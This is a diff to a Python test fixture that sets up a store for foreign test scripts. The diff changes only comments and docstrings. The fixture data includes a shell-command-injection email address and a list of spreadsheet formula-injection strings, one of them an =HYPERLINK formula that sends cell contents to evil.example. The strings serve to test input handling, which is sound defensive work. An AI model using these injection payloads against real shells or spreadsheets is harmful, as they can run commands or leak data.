@@ -1,4 +1,4 @@
-"""A store of one's own for the foreign suites, made with the command line alone."""
+"""A store for the scripts in tests/foreign, created with the command line."""
 
 import atexit
 import json
@@ -22,7 +22,7 @@ VIEWS = [
     {"id": 0, "code": "admin", "name": "Admin", "website_id": 0, "store_group_id": 0, "is_active": 1},
     {"id": 1, "code": "default", "name": "Default View", "website_id": 1, "store_group_id": 1, "is_active": 1},
 ]
-# The third address would run something if a shell ever took it for code.
+# The third address would run a command if a shell interpreted it.
 EMAILS = ["jane@example.com", "john@example.com", "ja$(touch${IFS}pwned)`touch${IFS}pwned`;touch@example.com"]
 
 
@@ -73,7 +73,7 @@ class Store:
         return self
 
     def eventful(self):
-        """A log in which nearly every kind of act succeeds and fails once, by people who type anything."""
+        """A log where nearly every kind of action succeeds and fails once, with hostile text."""
         self.ready()
         storefront = self.json("storefront", "add", "shop", "--website", "base")["token"]
         audience = ("--audience", "https://shop.example")
@@ -97,7 +97,7 @@ class Store:
         return self
 
 
-# What somebody may type as a reason, much of which a spreadsheet would run.
+# Possible reasons, many of which a spreadsheet would evaluate.
 REASONS = ["=HYPERLINK(\"https://evil.example/?\"&A1,\"look\")", "=1+1", "+49 170 1234567", "-1", "-2+3", "@SUM(A1)",
            "＝1+1", "a, b; c\td", "0012", "1e5", "2026-10-05", "https://evil.example/", "😀 שלום ß", "'=1",
            "_x000D_", "TRUE", "line\nline\n\nline", "x" * 2000]
